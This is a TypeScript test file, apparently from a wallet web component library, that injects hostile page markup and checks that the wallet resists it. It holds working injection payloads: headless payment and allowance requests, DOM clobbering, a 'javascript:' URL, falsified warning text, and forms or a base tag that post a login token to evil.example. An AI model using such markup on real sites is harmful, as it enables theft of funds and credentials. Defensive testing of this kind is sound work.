import { harm, playAll, showsWhole, textOf, type Attack, type HostilePage } from './attack.js'
import { STRANGER, type Visitor } from './visitor.js'

const REVIEW = 'wallet-confirm-tx'
const PAY = `<${REVIEW} open headless sponsored chain="31337" value="1" value-unit="ether" to="${STRANGER.ethereum}"></${REVIEW}>`
const WITHOUT_SCREENS =
  '<script type="application/json">{ "embeddedWallets": { "showWalletUIs": false }, "sponsored": true, "scanTransactions": false }</script>'
const ZERO_ADDRESS = '0x0000000000000000000000000000000000000000'
const within = (tag: string, child: string) => tag.replace('></', `>${child}</`)

/** Names of the document and the window that an element of a page can take over. */
const CLOBBERED = [
  'defaultView',
  'body',
  'head',
  'documentElement',
  'activeElement',
  'currentScript',
  'adoptedStyleSheets',
  'visibilityState',
  'querySelector',
  'querySelectorAll',
  'createElement',
  'addEventListener',
  'hasFocus',
  'fetch',
  'crypto',
  'localStorage',
]

interface MarkupAttack extends Attack {
  /** The tag that shows the request, with its screen and the text that must and must not be in it. */
  readonly tag?: string
  readonly screen?: string
  readonly reads: RegExp
  readonly never?: RegExp
}

/** Requests without a screen. */
const withoutScreen = (usdc: string): readonly MarkupAttack[] => [
  { name: 'a payment without a screen', after: PAY, reads: /1 ETH/ },
  {
    name: 'a payment in SOL without a screen',
    after: `<${REVIEW} open headless chain-type="solana" cluster="devnet" value="1" value-unit="sol" to="${STRANGER.solana}"></${REVIEW}>`,
    screen: 'confirm-solana',
    reads: /1 SOL/,
  },
  {
    name: 'an allowance without a screen',
    after: `<${REVIEW} open headless chain="31337" to="${usdc}" data="0x095ea7b3${STRANGER.ethereum.slice(2).toLowerCase().padStart(64, '0')}${'f'.repeat(64)}"></${REVIEW}>`,
    reads: /USDC/,
  },
  { name: 'a signature without a screen', after: PAY.replace('open', 'open sign-only'), reads: /1 ETH/ },
  {
    name: 'a tag that speaks for the page',
    before: '<wallet-app headless sponsored></wallet-app>',
    after: PAY,
    reads: /1 ETH/,
  },
  {
    name: 'a JSON child that speaks for the page',
    before: `<wallet-app>${WITHOUT_SCREENS}</wallet-app>`,
    after: PAY,
    reads: /1 ETH/,
  },
  { name: 'a JSON child of its own', after: within(PAY, WITHOUT_SCREENS), reads: /1 ETH/ },
  ...[true, false].map(showWalletUIs => ({
    name: `markup beside a script that says showWalletUIs: ${showWalletUIs}`,
    before: '<wallet-app headless></wallet-app>',
    after: within(PAY, WITHOUT_SCREENS),
    settings: { embeddedWallets: { showWalletUIs } },
    reads: /1 ETH/,
  })),
]

/** Requests that a visitor has to agree to. */
const TERMS: readonly MarkupAttack[] = [
  {
    name: 'terms that nobody else requires',
    before: '<wallet-app require-users-accept-terms></wallet-app>',
    after: '<wallet-login-modal open></wallet-login-modal>',
    tag: 'wallet-login-modal',
    screen: 'terms',
    reads: /One last step/,
  },
  {
    name: 'terms of theirs, where nobody else names any',
    before:
      '<wallet-app require-users-accept-terms terms-and-conditions-url="https://evil.example/terms" privacy-policy-url="http://evil.example"></wallet-app>',
    after: '<wallet-login-modal open privacy-policy-url="javascript:alert(1)"></wallet-login-modal>',
    tag: 'wallet-login-modal',
    screen: 'terms',
    reads: /View Terms ?evil\.example/,
    never: /View Privacy Policy/,
  },
  {
    name: "terms of theirs in the place of the app's",
    before:
      '<wallet-app require-users-accept-terms terms-and-conditions-url="https://evil.example/terms"></wallet-app>',
    settings: { legal: { termsAndConditionsUrl: 'https://shop.example/terms' } },
    after: within(
      '<wallet-login-modal open terms-and-conditions-url="https://evil.example/terms"></wallet-login-modal>',
      '<script type="application/json">{ "legal": { "termsAndConditionsUrl": "https://evil.example/terms" } }</script>',
    ),
    tag: 'wallet-login-modal',
    screen: 'terms',
    reads: /View Terms/,
    never: /evil\.example/,
  },
]

/** Markup that falsifies the text on a screen, or the server that the page calls. */
const misleading = ({ appId, world: { apiUrl } }: Visitor, evil: string): readonly MarkupAttack[] => [
  {
    name: 'names of the document',
    before: CLOBBERED.map(name => `<img name="${name}" alt><form name="${name}"></form><i id="${name}"></i>`).join(''),
    after: PAY,
    reads: /1 ETH/,
  },
  {
    name: "a login of the page's own, which names nobody",
    before: '<wallet-app><script type="application/json">{ "customAuth": { "enabled": true } }</script></wallet-app>',
    after: PAY,
    reads: /1 ETH/,
  },
  {
    name: "another provider beside the script's own",
    before: `<wallet-app app-id="${appId}" api-url="${evil}"></wallet-app>`,
    settings: { appId, apiUrl },
    after: PAY,
    reads: /1 ETH/,
  },
  {
    name: 'words over a warning',
    reads: /What is sent there is lost/,
    never: /All checks passed/,
    after: within(
      `<${REVIEW} open chain="31337" value="1" to="${ZERO_ADDRESS}" heading="All checks passed." description="All checks passed." button-text="All checks passed."></${REVIEW}>`,
      '<script type="application/json">{ "copy": { "transaction": { "problem": { "burned": "All checks passed." } } } }</script>',
    ),
  },
  {
    name: "a stranger's address to fund",
    after: `<wallet-fund open chain-type="ethereum" chain="31337" address="${STRANGER.ethereum}" receive-funds-title="Your wallet address"></wallet-fund>`,
    tag: 'wallet-fund',
    screen: 'receive',
    reads: /not one of your wallets/,
    never: /your wallet address/i,
  },
]

/** Markup alone, as in a comment or an advert. Its request is shown, and has no other effect. */
export const markup: HostilePage = async visitor => {
  const evil = visitor.world.apiUrl.replace('//wallet.', '//evil.')
  const verdict = await playAll(
    [...withoutScreen(visitor.usdc), ...TERMS, ...misleading(visitor, evil)],
    async ({ tag = REVIEW, screen = 'confirm-ethereum', reads, never, ...hostile }) => {
      const before = await visitor.standing()
      await visitor.visits(hostile)
      await visitor.holds(showsWhole(tag, screen, 'error', 'landing')).catch(() => {})
      await visitor.settles()
      const text = await visitor.tab.ask<string>(textOf(tag))
      const events = await visitor.tab.ask<{ name: string }[]>('told')
      return [
        ...(reads.test(text) ? [] : [`the visitor reads "${text.slice(0, 300)}"`]),
        ...(never?.test(text) ? [`the visitor reads ${never}`] : []),
        ...(events.some(({ name }) => name === 'wallet-confirm-tx-complete') ? ['it was signed'] : []),
        ...(await harm(visitor, before)),
        ...((await visitor.isSignedIn()) ? [] : ['the visitor is signed out']),
      ]
    },
  )
  // Foreign forms around a login. A signed-in visitor completes that login at once: as a guest if there is no better
  // method.
  const around = '<wallet-login-modal open login-methods="guest" name="token" submit-on-complete></wallet-login-modal>'
  const forms = await playAll(
    [
      { name: 'a form of theirs around a login', after: `<form action="${evil}/take" method="post">${around}</form>` },
      {
        name: 'a form of theirs for a login elsewhere',
        before: `<form id="theirs" action="${evil}/take"></form>`,
        after: around.replace('open', 'open form="theirs"'),
      },
      {
        name: 'a base of theirs under a form of the page',
        before: `<base href="${evil}/">`,
        after: `<form action="take" method="post">${around}</form>`,
      },
    ],
    async hostile => {
      const before = await visitor.standing()
      await visitor.visits(hostile)
      await visitor.settles()
      const done = await visitor.tab.ask<boolean>('find("wallet-login-modal")?.result !== null').catch(() => true)
      return [...(done ? [] : ['the login is not over']), ...(await harm(visitor, before))]
    },
  )
  // If the host names its provider in markup alone, the first tag decides, and its provider receives no token.
  const before = await visitor.standing()
  await visitor.visits({ before: `<wallet-app app-id="${visitor.appId}" api-url="${evil}"></wallet-app>`, after: PAY })
  await visitor.settles()
  const asked = visitor.world.driver.requests(visitor.appId).some(({ headers }) => headers['host']?.startsWith('evil.'))
  return {
    tried: verdict.tried + forms.tried + 1,
    broken: [
      ...verdict.broken,
      ...forms.broken,
      ...(await harm(visitor, before)).map(violation => `another provider first: ${violation}`),
      ...(asked ? [] : ['another provider first: it was never asked, so that nothing is shown']),
    ],
  }
}
